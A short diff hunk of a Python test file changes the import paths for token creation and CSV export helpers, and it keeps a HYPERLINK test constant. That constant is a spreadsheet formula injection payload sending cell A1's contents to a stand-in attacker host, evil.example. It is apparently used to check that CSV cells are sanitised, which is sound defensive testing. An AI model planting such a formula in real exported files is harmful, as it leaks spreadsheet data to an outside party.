@@ -8,8 +8,8 @@ import uuid
 
 import pytest
 
-from api.auth import create_token
-from api.resource import csv_body, csv_cell
+from api.http.auth import create_token
+from api.resources.resource import csv_body, csv_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
